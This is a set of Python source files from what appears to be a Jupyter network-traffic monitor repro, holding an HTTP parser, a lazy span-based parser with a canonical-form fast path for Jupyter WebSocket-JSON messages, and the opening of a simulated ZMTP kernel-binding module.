def _parse_headers(block: bytes) -> Dict[str, str]:
    headers: Dict[str, str] = {}
    for line in block.split(CRLF):
        if not line:
            continue
        if b":" not in line:
            raise ProtocolError(f"malformed header line: {line!r}")
        name, _, value = line.partition(b":")
        headers[name.decode("latin-1").strip().lower()] = value.decode("latin-1").strip()
    return headers


def parse_request(data: bytes) -> Tuple[Optional[HttpRequest], bytes]:
    """Incrementally parse one request from ``data``.

    Returns ``(request, remainder)``; ``(None, data)`` if incomplete.
    """
    end = data.find(HEADER_END)
    if end < 0:
        return None, data
    head, rest = data[:end], data[end + len(HEADER_END):]
    first, _, header_block = head.partition(CRLF)
    parts = first.split(b" ", 2)
    if len(parts) != 3:
        raise ProtocolError(f"malformed request line: {first!r}")
    method, target, version = (p.decode("latin-1") for p in parts)
    if not version.startswith("HTTP/"):
        raise ProtocolError(f"bad HTTP version: {version!r}")
    headers = _parse_headers(header_block)
    if headers.get("transfer-encoding", "").lower() == "chunked":
        raise ProtocolError("chunked transfer encoding unsupported")
    length = int(headers.get("content-length", "0") or 0)
    if len(rest) < length:
        return None, data
    body, remainder = rest[:length], rest[length:]
    return HttpRequest(method, target, headers, body, version), remainder


def parse_response(data: bytes) -> Tuple[Optional[HttpResponse], bytes]:
    """Incrementally parse one response from ``data``.

    A ``101 Switching Protocols`` response has no body; everything after
    the header block belongs to the upgraded protocol and is returned as
    the remainder.
    """
    end = data.find(HEADER_END)
    if end < 0:
        return None, data
    head, rest = data[:end], data[end + len(HEADER_END):]
    first, _, header_block = head.partition(CRLF)
    parts = first.split(b" ", 2)
    if len(parts) < 2 or not parts[0].startswith(b"HTTP/"):
        raise ProtocolError(f"malformed status line: {first!r}")
    version = parts[0].decode("latin-1")
    status = int(parts[1])
    reason = parts[2].decode("latin-1") if len(parts) > 2 else ""
    headers = _parse_headers(header_block)
    if status == 101:
        return HttpResponse(status, reason, headers, b"", version), rest
    length = int(headers.get("content-length", "0") or 0)
    if len(rest) < length:
        return None, data
    body, remainder = rest[:length], rest[length:]
    return HttpResponse(status, reason, headers, body, version), remainder
