"""Lazy, span-based view of Jupyter's WebSocket-JSON message framing.

The monitor's JUPYTER analyzer used to ``json.loads`` every whole
WebSocket payload and then *re-serialize* the ``content`` dict just to
measure it — the 2.3x "JSON layer" cost ``benchmarks/reports/EXP-WS.txt``
prices.  Most detector questions (msg_type, session, username, channel,
output size) live in the tiny ``header`` object or need only the *size*
of ``content``, so :class:`LazyJupyterMessage` exposes exactly that
split: an eagerly-available header and a ``content`` decode deferred
behind a cached property.

The backend is size-adaptive, chosen by measurement rather than dogma:

- **Small payloads** (≤ :data:`SPAN_SCAN_THRESHOLD`): CPython's C JSON
  scanner parses the whole document faster than *any* pure-Python span
  scan can even tokenize it (~5 µs vs ~35 µs on a 500-byte execute
  request), so the document is decoded eagerly in one pass and the lazy
  properties just index into it.
- **Large payloads** (oversized outputs, base64 blobs — the exfil cases):
  a regex tokenizer records the byte span of each top-level value
  without materializing multi-hundred-KB strings and dicts.  ``content``
  is then decoded only if something actually reads it, and its size
  comes from the raw span — no re-serialization, no throwaway objects.

Any scan irregularity falls back to a full ``json.loads`` so garbage
traffic classifies exactly as the eager path classified it.
"""

from __future__ import annotations

import json
import re
from typing import Any, Dict, Optional, Tuple

#: Payloads at or below this size are parsed eagerly with the C JSON
#: scanner (measured faster); above it, span scanning avoids
#: materializing large content values.
SPAN_SCAN_THRESHOLD = 16 * 1024

# One token per JSON lexeme: a complete string (unrolled-loop form, no
# backtracking), a structural byte, or a literal/number run.
_TOKEN = re.compile(rb'"[^"\\]*(?:\\.[^"\\]*)*"|[{}\[\]:,]|[^\s"{}\[\]:,]+')

_QUOTE = 0x22      # '"'
_BACKSLASH = 0x5C  # '\\'
_LBRACE = 0x7B     # '{'
_RBRACE = 0x7D     # '}'
_LBRACKET = 0x5B   # '['
_RBRACKET = 0x5D   # ']'
_COLON = 0x3A      # ':'
_COMMA = 0x2C      # ','

# Top-level parser states.
_EXPECT_KEY_OR_END = 0  # at '{' (empty object allowed)
_EXPECT_COLON = 1
_EXPECT_VALUE = 2
_EXPECT_COMMA_OR_END = 3
_EXPECT_KEY = 4         # after ',' (trailing comma not allowed)

_OPENERS = frozenset((_LBRACE, _LBRACKET))
_CLOSERS = frozenset((_RBRACE, _RBRACKET))


def scan_spans(raw: bytes) -> Optional[Dict[str, Tuple[int, int]]]:
    """Map each top-level object key to the byte span of its value.

    One structural pass, no value materialization.  Returns ``None`` if
    ``raw`` is not a structurally sound JSON object (callers fall back
    to ``json.loads`` so error behavior is preserved).  Token-level
    validity of the spans themselves is checked when a span is decoded.
    """
    n = len(raw)
    i = 0
    while i < n and raw[i] in b" \t\r\n":
        i += 1
    if i >= n or raw[i] != _LBRACE:
        return None
    spans: Dict[str, Tuple[int, int]] = {}
    depth = 0
    state = _EXPECT_KEY_OR_END
    key = ""
    value_start = -1
    prev_end = i
    for m in _TOKEN.finditer(raw, i):
        start = m.start()
        if start != prev_end and not raw[prev_end:start].isspace():
            return None  # unlexable gap (e.g. an unterminated string)
        tok = m.group()
        c = tok[0]
        prev_end = m.end()
        if depth > 1:  # inside a container value: only track nesting
            if c in _OPENERS:
                depth += 1
            elif c in _CLOSERS:
                depth -= 1
                if depth == 1:
                    spans[key] = (value_start, prev_end)
                    state = _EXPECT_COMMA_OR_END
            continue
        if depth == 0:
            if c == _LBRACE and len(tok) == 1:
                depth = 1
                continue
            return None
        # depth == 1: the top-level object itself.
        if state in (_EXPECT_KEY_OR_END, _EXPECT_KEY):
            if c == _QUOTE:
                key_bytes = tok[1:-1]
                if _BACKSLASH in key_bytes:
                    try:
                        key = json.loads(tok)
                    except json.JSONDecodeError:
                        return None
                else:
                    try:
                        key = key_bytes.decode("utf-8")
                    except UnicodeDecodeError:
                        return None
                state = _EXPECT_COLON
            elif c == _RBRACE and state == _EXPECT_KEY_OR_END:
                return spans if raw[prev_end:].isspace() or prev_end == n else None
            else:
                return None
        elif state == _EXPECT_COLON:
            if c != _COLON or len(tok) != 1:
                return None
            state = _EXPECT_VALUE
        elif state == _EXPECT_VALUE:
            if c in _OPENERS:
                value_start = start
                depth = 2
            elif c in _CLOSERS or c == _COLON or c == _COMMA:
                return None
            else:  # string, number, or literal: the token is the value
                spans[key] = (start, prev_end)
                state = _EXPECT_COMMA_OR_END
        else:  # _EXPECT_COMMA_OR_END
            if c == _COMMA and len(tok) == 1:
                state = _EXPECT_KEY
            elif c == _RBRACE:
                return spans if raw[prev_end:].isspace() or prev_end == n else None
            else:
                return None
    return None  # ran out of tokens before the object closed


_MISSING = object()

#: Bound decode method: skips ``json.loads``'s per-call wrapper and BOM
#: sniffing (Jupyter framing is UTF-8 by spec).
_json_decode = json.JSONDecoder().decode


class LazyJupyterMessage:
    """One Jupyter WS-JSON payload, decoded field-by-field on demand."""

    __slots__ = ("raw", "_spans", "_doc", "_cache")

    def __init__(self, raw: bytes, spans: Optional[Dict[str, Tuple[int, int]]],
                 doc: Optional[Dict[str, Any]] = None):
        self.raw = raw
        self._spans = spans
        self._doc = doc
        self._cache: Dict[str, Any] = {}

    @classmethod
    def parse(cls, payload: bytes) -> Optional["LazyJupyterMessage"]:
        """Wrap ``payload``; ``None`` if it is not a JSON object at all
        (the caller's "not Jupyter traffic" signal, matching how the
        eager ``json.loads`` path classified it)."""
        if isinstance(payload, (bytearray, memoryview)):
            payload = bytes(payload)
        if len(payload) > SPAN_SCAN_THRESHOLD:
            spans = scan_spans(payload)
            if spans is not None:
                return cls(payload, spans)
        try:
            doc = _json_decode(payload.decode("utf-8"))
        except (json.JSONDecodeError, UnicodeDecodeError, ValueError):
            return None
        if not isinstance(doc, dict):
            return None
        return cls(payload, None, doc)

    def _value(self, key: str) -> Any:
        """Decode one top-level value, caching the result."""
        if self._doc is not None:
            return self._doc.get(key)
        cached = self._cache.get(key, _MISSING)
        if cached is not _MISSING:
            return cached
        span = self._spans.get(key)
        if span is None:
            value = None
        else:
            try:
                value = json.loads(self.raw[span[0]:span[1]])
            except (json.JSONDecodeError, ValueError, UnicodeDecodeError):
                value = None
        self._cache[key] = value
        return value

    @property
    def header(self) -> Any:
        """The decoded ``header`` value (small; effectively eager)."""
        return self._value("header")

    @property
    def content(self) -> Any:
        """The decoded ``content`` value — the cached lazy property.
        On the span-scan backend, first access pays the JSON decode;
        detectors that never look at content never trigger it."""
        return self._value("content")

    @property
    def channel(self) -> str:
        value = self._value("channel")
        return str(value) if value is not None else ""

    def content_size(self) -> int:
        """Serialized size of ``content`` in bytes.  Span backend: the
        raw span length — no decode, no re-serialization.  Eager
        backend: the compact-ish dump the seed monitor measured (cheap
        at these sizes, and byte-comparable with the historical logs)."""
        if self._spans is not None:
            span = self._spans.get("content")
            return span[1] - span[0] if span else 0
        content = self._doc.get("content")
        return len(json.dumps(content)) if content is not None else 0

    def content_contains(self, token: bytes) -> bool:
        """Cheap pre-filter: can a decoded ``content`` contain ``token``?
        ``False`` proves the decode is skippable.  Checks raw bytes, so a
        ``True`` may be a false positive (e.g. the token inside a nested
        string) — callers decode and re-check.  Any ``\\u`` escape forces
        a ``True``: an attacker could spell a key or value through
        unicode escapes, so only escape-free raw bytes may prove absence.
        """
        if self._spans is not None:
            span = self._spans.get("content")
            if span is None:
                return False
            return (self.raw.find(token, span[0], span[1]) >= 0
                    or self.raw.find(b"\\u", span[0], span[1]) >= 0)
        return token in self.raw or b"\\u" in self.raw
