"""Lazy, span-based view of Jupyter's WebSocket-JSON message framing.

The monitor's JUPYTER analyzer used to ``json.loads`` every whole
WebSocket payload and then *re-serialize* the ``content`` dict just to
measure it — the 2.3x "JSON layer" cost ``benchmarks/reports/EXP-WS.txt``
prices.  Most detector questions (msg_type, session, username, channel,
output size) live in the tiny ``header`` object or need only the *size*
of ``content``, so :class:`LazyJupyterMessage` exposes exactly that
split: an eagerly-available header and a ``content`` decode deferred
behind a cached property.

The backend is size-adaptive, chosen by measurement rather than dogma:

- **Small payloads** (≤ :data:`SPAN_SCAN_THRESHOLD`): CPython's C JSON
  scanner parses the whole document faster than *any* pure-Python span
  scan can even tokenize it (~5 µs vs ~35 µs on a 500-byte execute
  request), so the document is decoded eagerly in one pass and the lazy
  properties just index into it.
- **Large payloads** (oversized outputs, base64 blobs — the exfil cases):
  a regex tokenizer records the byte span of each top-level value
  without materializing multi-hundred-KB strings and dicts.  ``content``
  is then decoded only if something actually reads it, and its size
  comes from the raw span — no re-serialization, no throwaway objects.

Any scan irregularity falls back to a full ``json.loads`` so garbage
traffic classifies exactly as the eager path classified it.

On top of the size-adaptive backend sits the **canonical-form probe**
(:func:`probe_ws_canonical`, :func:`probe_zmtp_header`): Jupyter senders
in this repro serialize with ``json.dumps(..., sort_keys=True)``, so the
overwhelmingly common wire shape is a *fixed byte skeleton* — top-level
keys in sorted order with known separators, a flat six-field header, and
``{}``/header-shaped ``metadata``/``parent_header``.  The probe verifies
that skeleton with a handful of C-level ``find``/regex calls and hands
back the header fields and the raw ``content`` span without building a
single dict.  Soundness rests on a JSON property: the skeleton markers
contain raw ``"`` bytes, which can never occur *inside* a JSON string
(they would be escaped), so marker uniqueness checks prove the tiling is
the document's one valid parse.  Anything the probe cannot prove
canonical returns ``None`` and takes the classic parse path, keeping
monitor output byte-identical on every input.
"""

from __future__ import annotations

import json
import re
from typing import Any, Dict, Optional, Tuple

#: Payloads at or below this size are parsed eagerly with the C JSON
#: scanner (measured faster); above it, span scanning avoids
#: materializing large content values.
SPAN_SCAN_THRESHOLD = 16 * 1024

#: Flamegraph frame names for this module's hot probes.  The probes take
#: no hook parameter — callers (the monitor engine) account work against
#: these paths at drained-batch granularity via
#: :meth:`repro.telemetry.profiler.Profiler.account`, so an unprofiled
#: world's wire hot path carries zero extra instructions.
PROF_WS_PROBE = ("hot", "wire.jupyter", "probe_ws_canonical")
PROF_ZMTP_PROBE = ("hot", "wire.jupyter", "probe_zmtp_header")
PROF_WS_FALLBACK = ("hot", "wire.jupyter", "classic_parse_fallback")

# One token per JSON lexeme: a complete string (unrolled-loop form, no
# backtracking), a structural byte, or a literal/number run.
_TOKEN = re.compile(rb'"[^"\\]*(?:\\.[^"\\]*)*"|[{}\[\]:,]|[^\s"{}\[\]:,]+')

_QUOTE = 0x22      # '"'
_BACKSLASH = 0x5C  # '\\'
_LBRACE = 0x7B     # '{'
_RBRACE = 0x7D     # '}'
_LBRACKET = 0x5B   # '['
_RBRACKET = 0x5D   # ']'
_COLON = 0x3A      # ':'
_COMMA = 0x2C      # ','

# Top-level parser states.
_EXPECT_KEY_OR_END = 0  # at '{' (empty object allowed)
_EXPECT_COLON = 1
_EXPECT_VALUE = 2
_EXPECT_COMMA_OR_END = 3
_EXPECT_KEY = 4         # after ',' (trailing comma not allowed)

_OPENERS = frozenset((_LBRACE, _LBRACKET))
_CLOSERS = frozenset((_RBRACE, _RBRACKET))


def scan_spans(raw: bytes) -> Optional[Dict[str, Tuple[int, int]]]:
    """Map each top-level object key to the byte span of its value.

    One structural pass, no value materialization.  Returns ``None`` if
    ``raw`` is not a structurally sound JSON object (callers fall back
    to ``json.loads`` so error behavior is preserved).  Token-level
    validity of the spans themselves is checked when a span is decoded.
    """
    n = len(raw)
    i = 0
    while i < n and raw[i] in b" \t\r\n":
        i += 1
    if i >= n or raw[i] != _LBRACE:
        return None
    spans: Dict[str, Tuple[int, int]] = {}
    depth = 0
    state = _EXPECT_KEY_OR_END
    key = ""
    value_start = -1
    prev_end = i
    for m in _TOKEN.finditer(raw, i):
        start = m.start()
        if start != prev_end and not raw[prev_end:start].isspace():
            return None  # unlexable gap (e.g. an unterminated string)
        tok = m.group()
        c = tok[0]
        prev_end = m.end()
        if depth > 1:  # inside a container value: only track nesting
            if c in _OPENERS:
                depth += 1
            elif c in _CLOSERS:
                depth -= 1
                if depth == 1:
                    spans[key] = (value_start, prev_end)
                    state = _EXPECT_COMMA_OR_END
            continue
        if depth == 0:
            if c == _LBRACE and len(tok) == 1:
                depth = 1
                continue
            return None
        # depth == 1: the top-level object itself.
        if state in (_EXPECT_KEY_OR_END, _EXPECT_KEY):
            if c == _QUOTE:
                key_bytes = tok[1:-1]
                if _BACKSLASH in key_bytes:
                    try:
                        key = json.loads(tok)
                    except json.JSONDecodeError:
                        return None
                else:
                    try:
                        key = key_bytes.decode("utf-8")
                    except UnicodeDecodeError:
                        return None
                state = _EXPECT_COLON
            elif c == _RBRACE and state == _EXPECT_KEY_OR_END:
                return spans if raw[prev_end:].isspace() or prev_end == n else None
            else:
                return None
        elif state == _EXPECT_COLON:
            if c != _COLON or len(tok) != 1:
                return None
            state = _EXPECT_VALUE
        elif state == _EXPECT_VALUE:
            if c in _OPENERS:
                value_start = start
                depth = 2
            elif c in _CLOSERS or c == _COLON or c == _COMMA:
                return None
            else:  # string, number, or literal: the token is the value
                spans[key] = (start, prev_end)
                state = _EXPECT_COMMA_OR_END
        else:  # _EXPECT_COMMA_OR_END
            if c == _COMMA and len(tok) == 1:
                state = _EXPECT_KEY
            elif c == _RBRACE:
                return spans if raw[prev_end:].isspace() or prev_end == n else None
            else:
                return None
    return None  # ran out of tokens before the object closed


_MISSING = object()

#: Bound decode method: skips ``json.loads``'s per-call wrapper and BOM
#: sniffing (Jupyter framing is UTF-8 by spec).
_json_decode = json.JSONDecoder().decode


# -- canonical-form probe ---------------------------------------------------------
#
# ``Session.to_websocket_json`` is ``json.dumps({...}, sort_keys=True)``
# with the default ``", "`` / ``": "`` separators, so every well-formed
# WS payload opens with the sorted-key skeleton below.  ``json_segments``
# (the ZMTP leg) uses compact ``(",", ":")`` separators, giving the
# second skeleton.  The probe regexes validate structure and capture the
# field values in one C pass each; ``[^"\\]*`` value classes mean a
# match proves the values are escape-free (decodable by plain slicing).

#: Fixed 28-byte opener of every canonical WS payload, then one of four
#: channel tails.  Byte 30 (the channel name's third letter — ``p``,
#: ``e``, ``d``, ``n`` — unique across the four channels) discriminates
#: without a slice allocation, so an int-keyed dict hit plus ONE full
#: prefix ``startswith`` replaces the old prefix regex (match + group +
#: dict lookup) and the older four-way startswith loop.
_CANON_PREFIX_HEAD = b'{"buffers": [], "channel": "'
_CANON_PREFIX_BY1 = {
    name[2]: (_CANON_PREFIX_HEAD + name + b'", "content": ',
              name.decode("ascii"),
              len(_CANON_PREFIX_HEAD) + len(name) + 14)
    for name in (b"iopub", b"shell", b"stdin", b"control")}
_CANON_BY1_GET = _CANON_PREFIX_BY1.get

#: The one marker the probe must *search* for (content is arbitrary).
#: It contains raw quotes, so it cannot hide inside any string value.
#: ``find`` takes the *first* occurrence; if that occurrence is a spoof
#: embedded in the content, the real header that follows it cannot tile
#: as header+metadata+parent (every validated region after the mark is
#: either fixed skeleton bytes or a quote-free ``[^"\\]*`` value class,
#: and the mark contains raw quotes — so a second mark cannot survive
#: validation).  A successful probe therefore proves the mark it found
#: is the document's only one; no second scan is needed.
_CANON_HEADER_MARK = b', "header": {"date": "'          # len 22
_CANON_MSG_ID_MARK = b'", "msg_id": "'                  # len 14
_CANON_TAIL_MARK = b'"}, "metadata": {}, "parent_header": '  # len 37

#: The header region is validated in three pieces split around the one
#: per-message-unique field (``msg_id``): a *head* (``date`` — a few
#: distinct values per burst), the msg_id bytes themselves (checked
#: escape-free inline), and a *tail* (``msg_type``/``session``/
#: ``username``/``version`` — a handful of combinations per session).
#: Head and tail validations are deterministic over their bytes, so
#: each distinct slice is regex-validated once and then served from a
#: bounded cache; the tail cache also carries the decoded field strings,
#: interning them across every message of a session.
_HDR_HEAD_RX = re.compile(rb', "header": \{"date": "[^"\\]*", "msg_id": "')
_HDR_TAIL_RX = re.compile(
    rb'", "msg_type": "([^"\\]*)", "session": "([^"\\]*)", '
    rb'"username": "([^"\\]*)", "version": "[^"\\]*"\}, '
    rb'"metadata": \{\}, "parent_header": ')

_CANON_PARENT = re.compile(
    rb'\{"date": "[^"\\]*", "msg_id": "[^"\\]*", "msg_type": "[^"\\]*", '
    rb'"session": "[^"\\]*", "username": "[^"\\]*", "version": "[^"\\]*"\}')

#: ZMTP header frames are compact dumps of the same six-field header,
#: split-validated and cached exactly like the WS header above.
_ZMTP_HEAD = b'{"date":"'                               # len 9
_ZMTP_MSG_ID_MARK = b'","msg_id":"'                     # len 12
_ZMTP_HEAD_RX = re.compile(rb'\{"date":"[^"\\]*","msg_id":"')
_ZMTP_TAIL_RX = re.compile(
    rb'","msg_type":"([^"\\]*)","session":"([^"\\]*)",'
    rb'"username":"([^"\\]*)","version":"[^"\\]*"\}')

#: parent_header validation cache: every child message of one request
#: (status/execute_input/stream/result/reply) carries the *same* parent
#: bytes, so validating each distinct parent once replaces a ~180-byte
#: regex scan per message with a dict hit.  Validation is deterministic
#: over the bytes, so a shared bounded cache is safe.
_parent_cache: Dict[bytes, bool] = {}
_hdr_head_cache: Dict[bytes, bool] = {}
_hdr_tail_cache: Dict[bytes, Tuple[str, str, str]] = {}
_zmtp_head_cache: Dict[bytes, bool] = {}
_zmtp_tail_cache: Dict[bytes, Tuple[str, str, str]] = {}
_PARENT_CACHE_CAP = 1024
_PROBE_CACHE_CAP = 512

#: Last-validated guesses, exploiting per-burst temporal locality: the
#: head repeats while ``date`` holds (one second), the parent repeats
#: across every child of one request, and tails repeat per msg_type
#: (keyed by a 14-byte discriminator covering the type name).  A guess
#: hit replaces slice+hash+dict with ONE positional C ``startswith``
#: verify — a *verify*, never a trust: a miss falls back to the exact
#: cached-validation path, so wrong guesses cost time, not correctness.
#: Initialized to a byte no canonical document contains (b"\\x00"), as
#: ``startswith(b"")`` would vacuously hit.
_ws_head_guess = b"\x00"
_ws_parent_guess = b"\x00"
_zmtp_head_guess = b"\x00"
_hdr_tail_guess: Dict[bytes, Tuple[bytes, Tuple[str, str, str]]] = {}
_zmtp_tail_guess: Dict[bytes, Tuple[bytes, Tuple[str, str, str]]] = {}

_canon_parent_fullmatch = _CANON_PARENT.fullmatch


def probe_ws_canonical(raw: bytes):
    """Field-extract a canonical WS-JSON Jupyter payload without parsing.

    Returns ``(msg_id, msg_type, session, username, channel, content_start,
    content_end)`` — the first five as ``str`` (escape-free by
    construction, decoded through the probe's bounded intern caches) —
    or ``None`` when ``raw`` is not provably the canonical sender shape
    (caller falls back to the classic parse; that includes canonical
    skeletons whose field bytes are not valid UTF-8, so the classic
    path's weird-classification is preserved).

    A non-``None`` return proves every byte outside the content span:
    prefix skeleton, flat header (values extracted), ``{}`` metadata,
    and a ``{}``-or-header-shaped parent tiled exactly to the closing
    brace.  The validated pieces tile the document completely, so the
    extraction is the document's one valid parse; only the content
    span's own well-formedness is left to the caller.
    """
    global _ws_head_guess, _ws_parent_guess
    if len(raw) < 31:
        return None
    ch = _CANON_BY1_GET(raw[30])
    if ch is None or not raw.startswith(ch[0]) or raw[-1] != 125:  # '}'
        return None
    lit, channel, cs = ch
    find = raw.find
    ih = find(_CANON_HEADER_MARK, cs)
    if ih < 0:
        return None
    hg = _ws_head_guess
    if raw.startswith(hg, ih):
        j = ih + len(hg)
    else:
        j = find(_CANON_MSG_ID_MARK, ih + 22)
        if j < 0:
            return None
        j += 14
        head = raw[ih:j]
        if head not in _hdr_head_cache:
            if _HDR_HEAD_RX.fullmatch(head) is None:
                return None
            if len(_hdr_head_cache) >= _PROBE_CACHE_CAP:
                _hdr_head_cache.clear()
            _hdr_head_cache[head] = True
        _ws_head_guess = head
    k = find(b'"', j)
    if k < 0:
        return None
    tg = _hdr_tail_guess.get(raw[k + 16:k + 30])
    if tg is not None and raw.startswith(tg[0], k):
        fields = tg[1]
        pm = k + len(tg[0]) - 37
    else:
        pm = find(_CANON_TAIL_MARK, k)
        if pm < 0:
            return None
        tail = raw[k:pm + 37]
        fields = _hdr_tail_cache.get(tail)
        if fields is None:
            m = _HDR_TAIL_RX.fullmatch(tail)
            if m is None:
                return None
            try:
                fields = (m.group(1).decode("utf-8"), m.group(2).decode("utf-8"),
                          m.group(3).decode("utf-8"))
            except UnicodeDecodeError:
                return None
            if len(_hdr_tail_cache) >= _PROBE_CACHE_CAP:
                _hdr_tail_cache.clear()
            _hdr_tail_cache[tail] = fields
        if len(_hdr_tail_guess) >= _PROBE_CACHE_CAP:
            _hdr_tail_guess.clear()
        _hdr_tail_guess[tail[16:30]] = (tail, fields)
    pstart = pm + 37
    pend = len(raw) - 1
    pg = _ws_parent_guess
    if pstart + 2 == pend and raw.startswith(b"{}", pstart):
        pass
    elif pstart + len(pg) == pend and raw.startswith(pg, pstart):
        pass
    else:
        parent = raw[pstart:pend]
        if parent not in _parent_cache:
            if _canon_parent_fullmatch(parent) is None:
                return None
            if len(_parent_cache) >= _PARENT_CACHE_CAP:
                _parent_cache.clear()
            _parent_cache[parent] = True
        _ws_parent_guess = parent
    mid = raw[j:k]
    if b"\\" in mid:
        return None
    try:
        msg_id = mid.decode("utf-8")
    except UnicodeDecodeError:
        return None
    return (msg_id, fields[0], fields[1], fields[2], channel, cs, ih)


def probe_zmtp_header(header_b: bytes):
    """Field-extract a canonical compact Jupyter header frame.

    Returns ``(msg_id, msg_type, session, username)`` as ``str`` (via
    the probe intern caches), or ``None`` when the frame is not the
    canonical compact dump — including non-UTF-8 field bytes — so the
    caller's ``json.loads`` fallback keeps its error classification.
    """
    global _zmtp_head_guess
    hg = _zmtp_head_guess
    if header_b.startswith(hg):
        j = len(hg)
    else:
        if not header_b.startswith(_ZMTP_HEAD) or header_b[-1] != 125:  # '}'
            return None
        j = header_b.find(_ZMTP_MSG_ID_MARK, 9)
        if j < 0:
            return None
        j += 12
        head = header_b[:j]
        if head not in _zmtp_head_cache:
            if _ZMTP_HEAD_RX.fullmatch(head) is None:
                return None
            if len(_zmtp_head_cache) >= _PROBE_CACHE_CAP:
                _zmtp_head_cache.clear()
            _zmtp_head_cache[head] = True
        _zmtp_head_guess = head
    k = header_b.find(b'"', j)
    if k < 0:
        return None
    tg = _zmtp_tail_guess.get(header_b[k + 14:k + 28])
    if tg is not None and header_b.startswith(tg[0], k) \
            and k + len(tg[0]) == len(header_b):
        fields = tg[1]
    else:
        tail = header_b[k:]
        fields = _zmtp_tail_cache.get(tail)
        if fields is None:
            m = _ZMTP_TAIL_RX.fullmatch(tail)
            if m is None:
                return None
            try:
                fields = (m.group(1).decode("utf-8"), m.group(2).decode("utf-8"),
                          m.group(3).decode("utf-8"))
            except UnicodeDecodeError:
                return None
            if len(_zmtp_tail_cache) >= _PROBE_CACHE_CAP:
                _zmtp_tail_cache.clear()
            _zmtp_tail_cache[tail] = fields
        if len(_zmtp_tail_guess) >= _PROBE_CACHE_CAP:
            _zmtp_tail_guess.clear()
        _zmtp_tail_guess[tail[14:28]] = (tail, fields)
    mid = header_b[j:k]
    if b"\\" in mid:
        return None
    try:
        msg_id = mid.decode("utf-8")
    except UnicodeDecodeError:
        return None
    return (msg_id, fields[0], fields[1], fields[2])


def scan_spans_canonical(raw: bytes) -> Optional[Dict[str, Tuple[int, int]]]:
    """Canonical-form fast path for :func:`scan_spans`: the same span
    map, built from the probe's skeleton proof instead of a pure-Python
    token walk.  Near-constant cost regardless of content size (the
    content span is skipped at C ``find`` speed).  The content span is
    whitespace-trimmed to the exact token bytes so it is interchangeable
    with the tokenizer's span on every input; ``None`` falls through to
    the tokenizer."""
    pr = probe_ws_canonical(raw)
    if pr is None:
        return None
    cs, ih = pr[5], pr[6]
    pm = raw.find(_CANON_TAIL_MARK, ih)
    ce = ih
    while cs < ce and raw[ce - 1] in b" \t\r\n":
        ce -= 1
    while cs < ce and raw[cs] in b" \t\r\n":
        cs += 1
    return {
        "buffers": (12, 14),
        "channel": (27, pr[5] - 13),
        "content": (cs, ce),
        "header": (ih + 12, pm + 2),
        "metadata": (pm + 16, pm + 18),
        "parent_header": (pm + 37, len(raw) - 1),
    }


class LazyJupyterMessage:
    """One Jupyter WS-JSON payload, decoded field-by-field on demand."""

    __slots__ = ("raw", "_spans", "_doc", "_cache")

    def __init__(self, raw: bytes, spans: Optional[Dict[str, Tuple[int, int]]],
                 doc: Optional[Dict[str, Any]] = None):
        self.raw = raw
        self._spans = spans
        self._doc = doc
        self._cache: Dict[str, Any] = {}

    @classmethod
    def parse(cls, payload: bytes) -> Optional["LazyJupyterMessage"]:
        """Wrap ``payload``; ``None`` if it is not a JSON object at all
        (the caller's "not Jupyter traffic" signal, matching how the
        eager ``json.loads`` path classified it)."""
        if isinstance(payload, (bytearray, memoryview)):
            payload = bytes(payload)
        # Canonical skeleton first, at ANY size: the probe is a handful
        # of C calls, cheaper than even the eager C-scanner parse, and
        # the span backend it feeds skips content dicts the detectors
        # never read.  This moves the span-scanner crossover from 16 KiB
        # down to zero for canonical senders; the eager-parse threshold
        # below now only governs *non-canonical* payloads, where the
        # pure-Python tokenizer still loses to the C scanner until
        # payloads get large.
        spans = scan_spans_canonical(payload)
        if spans is not None:
            return cls(payload, spans)
        if len(payload) > SPAN_SCAN_THRESHOLD:
            spans = scan_spans(payload)
            if spans is not None:
                return cls(payload, spans)
        try:
            doc = _json_decode(payload.decode("utf-8"))
        except (json.JSONDecodeError, UnicodeDecodeError, ValueError):
            return None
        if not isinstance(doc, dict):
            return None
        return cls(payload, None, doc)

    def _value(self, key: str) -> Any:
        """Decode one top-level value, caching the result."""
        if self._doc is not None:
            return self._doc.get(key)
        cached = self._cache.get(key, _MISSING)
        if cached is not _MISSING:
            return cached
        span = self._spans.get(key)
        if span is None:
            value = None
        else:
            try:
                value = json.loads(self.raw[span[0]:span[1]])
            except (json.JSONDecodeError, ValueError, UnicodeDecodeError):
                value = None
        self._cache[key] = value
        return value

    @property
    def header(self) -> Any:
        """The decoded ``header`` value (small; effectively eager)."""
        return self._value("header")

    @property
    def content(self) -> Any:
        """The decoded ``content`` value — the cached lazy property.
        On the span-scan backend, first access pays the JSON decode;
        detectors that never look at content never trigger it."""
        return self._value("content")

    @property
    def channel(self) -> str:
        value = self._value("channel")
        return str(value) if value is not None else ""

    def content_size(self) -> int:
        """Serialized size of ``content`` in bytes.  Span backend: the
        raw span length — no decode, no re-serialization.  Eager
        backend: the compact-ish dump the seed monitor measured (cheap
        at these sizes, and byte-comparable with the historical logs)."""
        if self._spans is not None:
            span = self._spans.get("content")
            return span[1] - span[0] if span else 0
        content = self._doc.get("content")
        return len(json.dumps(content)) if content is not None else 0

    def content_contains(self, token: bytes) -> bool:
        """Cheap pre-filter: can a decoded ``content`` contain ``token``?
        ``False`` proves the decode is skippable.  Checks raw bytes, so a
        ``True`` may be a false positive (e.g. the token inside a nested
        string) — callers decode and re-check.  Any ``\\u`` escape forces
        a ``True``: an attacker could spell a key or value through
        unicode escapes, so only escape-free raw bytes may prove absence.
        """
        if self._spans is not None:
            span = self._spans.get("content")
            if span is None:
                return False
            return (self.raw.find(token, span[0], span[1]) >= 0
                    or self.raw.find(b"\\u", span[0], span[1]) >= 0)
        return token in self.raw or b"\\u" in self.raw
