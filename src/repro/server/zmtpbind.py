"""Kernel channel bindings: ZMTP over simulated loopback TCP.

Faithful to the paper's Fig. 2 and §II: the kernel listens on
``shell_port``, ``iopub_port``, ``control_port``, ``hb_port`` with TCP
transport and HMAC-SHA256-signed messages.  The server connects as a
client.  The network tap therefore sees *real ZMTP bytes carrying real
signed Jupyter messages*, which is the traffic the paper says existing
monitors cannot interpret.

Execution timing: when a shell request arrives the kernel replies
``status:busy``/``execute_input`` immediately and schedules the
remaining iopub traffic and the reply after the cell's *simulated
duration*, so long-running (e.g. mining) cells occupy the kernel in
simulation time exactly as they would a real node.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional

from repro.kernel.runtime import KernelRuntime
from repro.messaging import Channel, Message, Session
from repro.simnet import Host, Network, TcpConnection
from repro.util.errors import ProtocolError
